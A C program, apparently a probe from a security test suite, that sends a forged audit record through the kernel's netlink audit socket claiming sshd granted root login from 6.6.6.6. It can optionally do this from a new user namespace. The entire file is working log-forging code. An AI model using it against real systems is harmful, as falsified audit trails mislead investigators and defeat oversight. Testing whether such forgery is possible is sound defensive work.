// SPDX-License-Identifier: Apache-2.0
// Claims through the audit socket that sshd let root in from 6.6.6.6. Usage: forge_audit [userns]; userns
// does it from a user namespace of its own, where CAP_AUDIT_WRITE is there for the asking.
//   pid= deed=forge_audit result=bytes sent|-errno ack=0|-errno (the kernel's answer) userns=0|1
#define _GNU_SOURCE
#include <linux/audit.h>
#include <linux/netlink.h>
#include <sched.h>
#include <sys/socket.h>

#include "deed.h"

enum { kAuditUserAuth = 1100 };  // AUDIT_USER_AUTH, which only libaudit.h names

static void write_file(const char* path, const char* text) {
    int fd = must(open(path, O_WRONLY | O_CLOEXEC), path);
    must(write(fd, text, strlen(text)), path);
    close(fd);
}

static void enter_user_namespace(void) {
    char map[64];
    snprintf(map, sizeof map, "0 %u 1", geteuid());
    must(unshare(CLONE_NEWUSER), "unshare the user namespace");
    write_file("/proc/self/setgroups", "deny");
    write_file("/proc/self/uid_map", map);
}

int main(int argc, char** argv) {
    int userns = argc > 1 && !strcmp(argv[1], "userns");
    if (userns) enter_user_namespace();

    struct {
        struct nlmsghdr head;
        char text[256];
    } message = {.text =
                     "op=PAM:authentication grantors=pam_unix acct=\"root\" exe=\"/usr/sbin/sshd\" "
                     "hostname=6.6.6.6 addr=6.6.6.6 terminal=ssh res=success"};
    message.head = (struct nlmsghdr){.nlmsg_len = NLMSG_HDRLEN + strlen(message.text) + 1,
                                     .nlmsg_type = kAuditUserAuth,
                                     .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK,
                                     .nlmsg_seq = 1};
    struct sockaddr_nl kernel = {.nl_family = AF_NETLINK};
    int fd = must(socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_AUDIT), "audit socket");
    long result =
        outcome(sendto(fd, &message, message.head.nlmsg_len, 0, (struct sockaddr*)&kernel, sizeof kernel));

    struct {
        struct nlmsghdr head;
        struct nlmsgerr error;
        char rest[512];
    } answer = {0};
    if (result > 0) must(recv(fd, &answer, sizeof answer, 0), "the kernel's answer");
    say("forge_audit", result, "ack=%d userns=%d", answer.error.error, userns);
    return 0;
}
